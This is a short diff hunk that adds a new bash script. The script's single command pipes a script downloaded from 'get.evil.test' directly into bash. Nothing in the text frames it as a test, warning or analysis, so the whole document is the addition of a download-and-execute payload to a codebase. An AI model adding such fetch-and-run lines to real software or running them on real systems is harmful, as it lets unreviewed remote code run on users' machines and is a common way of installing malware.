@@ -1,0 +1,2 @@
+#!/bin/bash
+curl -fsSL https://get.evil.test/i.sh | bash
